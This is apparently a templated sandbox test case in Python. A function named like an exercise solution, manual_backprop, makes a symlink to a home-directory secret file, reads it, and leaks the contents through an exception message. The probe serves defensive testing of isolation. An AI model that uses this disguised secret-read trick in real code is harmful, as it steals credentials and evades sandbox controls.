# exercise: 01.3
# tries: read the secret through a link that it makes
# proof: secrets['home'] in said
import os
import tempfile


def manual_backprop(a, b, c, f):
    link = os.path.join(tempfile.mkdtemp(), "@NAME@")
    os.symlink("@HOME@/secret.txt", link)
    raise RuntimeError(open(link).read())
